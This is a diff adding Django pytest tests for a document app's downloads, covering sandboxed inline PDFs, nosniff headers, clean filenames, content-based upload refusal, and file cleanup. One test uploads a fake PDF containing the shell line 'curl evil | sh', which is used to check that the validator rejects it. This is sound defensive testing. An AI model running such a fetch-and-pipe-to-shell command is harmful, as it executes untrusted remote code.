@@ -5,6 +5,7 @@ import zipfile
 
 import pytest
 from django.core.exceptions import ValidationError
+from django.core.files.storage import default_storage
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from razon.models import Document
@@ -90,3 +91,78 @@ def test_a_document_only_drafts_use_is_not_downloadable(client):
     assert client.get(draft_only.get_absolute_url()).status_code == 404
     assert client.get(shared.get_absolute_url()).status_code == 200
     assert client.get(loose.get_absolute_url()).status_code == 200
+
+
+def download(client, document):
+    response = client.get(document.get_absolute_url())
+    assert response.status_code == 200
+    return response
+
+
+def test_a_pdf_opens_in_the_browser_sandboxed_with_the_type_from_its_content(client):
+    response = download(client, stored_document("verslag"))
+
+    assert response["Content-Type"] == PDF.content_type
+    assert response["Content-Disposition"] == 'inline; filename="verslag.pdf"'
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Security-Policy"].startswith("sandbox")
+    assert "allow-same-origin" not in response["Content-Security-Policy"]
+
+
+def test_an_office_file_downloads_with_a_clean_name(client):
+    document = upload("Agenda 12 maart (definitief).docx", DOCX_BYTES)
+    document.save()
+
+    response = download(client, document)
+
+    assert response["Content-Type"] == DOCX.content_type
+    assert response["Content-Disposition"] == (
+        'attachment; filename="agenda-12-maart-definitief.docx"'
+    )
+    assert response["X-Content-Type-Options"] == "nosniff"
+
+
+def document_form(file, **fields):
+    return {"title": "Verslag", "slug": "verslag", "kind": "verslag", "file": file, **fields}
+
+
+def test_the_admin_shows_why_a_document_is_refused(superuser_client):
+    script = SimpleUploadedFile("verslag.pdf", b"#!/bin/sh\ncurl evil | sh\n")
+
+    response = superuser_client.post("/admin/razon/document/add/", document_form(script))
+
+    assert response.status_code == 200
+    assert "gekeken naar de inhoud, niet naar de naam" in response.content.decode()
+    assert not Document.objects.exists()
+
+
+def test_replacing_the_file_in_the_admin_keeps_the_address_and_removes_the_old_file(
+    superuser_client, client, django_capture_on_commit_callbacks
+):
+    old = stored_document("verslag")
+    old_name = old.file.name
+    url = old.get_absolute_url()
+
+    new_file = SimpleUploadedFile("verslag-v2.pdf", b"%PDF-1.7 nieuwe versie")
+    with django_capture_on_commit_callbacks(execute=True):
+        response = superuser_client.post(
+            f"/admin/razon/document/{old.pk}/change/", document_form(new_file)
+        )
+
+    assert response.status_code == 302
+    document = Document.objects.get()
+    assert document.get_absolute_url() == url
+    assert document.file.name != old_name
+    assert not default_storage.exists(old_name)
+    assert b"".join(client.get(url).streaming_content) == b"%PDF-1.7 nieuwe versie"
+
+
+def test_deleting_a_document_removes_its_file_after_the_commit(
+    django_capture_on_commit_callbacks,
+):
+    document = stored_document("weg")
+    with django_capture_on_commit_callbacks(execute=True):
+        document.delete()
+        assert default_storage.exists(document.file.name)
+
+    assert not default_storage.exists(document.file.name)
